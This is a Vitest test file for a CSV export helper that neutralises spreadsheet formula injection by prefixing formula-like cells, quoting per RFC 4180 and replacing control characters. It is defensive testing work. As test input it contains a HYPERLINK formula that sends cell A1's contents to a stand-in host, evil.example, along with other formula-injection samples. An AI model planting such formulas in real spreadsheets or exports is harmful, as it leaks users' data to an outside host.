import { describe, expect, it } from 'vitest';
import { csvCell, makeCsvLine } from '@/lib/analysis/csv-line';
import { parseCsv } from '../../support/parse-csv';

describe('CSV cells are safe to open in a spreadsheet', () => {
  it('prefixes text that a spreadsheet would run as a formula, keeping RFC 4180 quoting', () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    expect(csvCell(hyperlink)).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csvCell('+1+1')).toBe("'+1+1");
    expect(csvCell('-2+3+cmd')).toBe("'-2+3+cmd");
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('- not sure')).toBe("'- not sure");
    // A leading tab or CR is kept (never trimmed into a bare formula) and the cell is prefixed and quoted.
    expect(csvCell('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('\tplain')).toBe(`"'\tplain"`);
    expect(csvCell('  =1+1')).toBe("'  =1+1");
  });

  it('leaves ordinary text, plain numbers and values written as numbers alone', () => {
    expect(csvCell('fine, thanks')).toBe('"fine, thanks"');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('o1;o2')).toBe('"o1;o2"');
    expect(csvCell('-3.5')).toBe('-3.5');
    expect(csvCell('+2')).toBe('+2');
    expect(csvCell('-1e3')).toBe('-1e3');
    expect(csvCell(-3.5)).toBe('-3.5');
    expect(csvCell(true)).toBe('true');
    expect(csvCell('')).toBe('');
    expect(csvCell('-')).toBe("'-");
  });

  it('shows control characters other than tab, CR and LF as U+FFFD (never a raw NUL)', () => {
    expect(csvCell('a\u0000b')).toBe('a\uFFFDb');
    expect(csvCell('\u0000=1+1')).toBe('\uFFFD=1+1');
    expect(csvCell('esc\u001b[31m del\u007f')).toBe('esc\uFFFD[31m del\uFFFD');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
  });

  it('writes whole lines that read back to the neutralised values, long cached cells included', () => {
    const line = makeCsvLine();
    const long = `=${'x'.repeat(100)},"quoted"`;
    const text = line(['answer', 'n', 'other']) + line(['=1+1', -4, long]) + line(['a\u0000b', 7, long]);
    expect(text).not.toContain('\u0000');
    expect(parseCsv(text)).toEqual([
      { answer: "'=1+1", n: '-4', other: `'${long}` },
      { answer: 'a\uFFFDb', n: '7', other: `'${long}` },
    ]);
  });
});
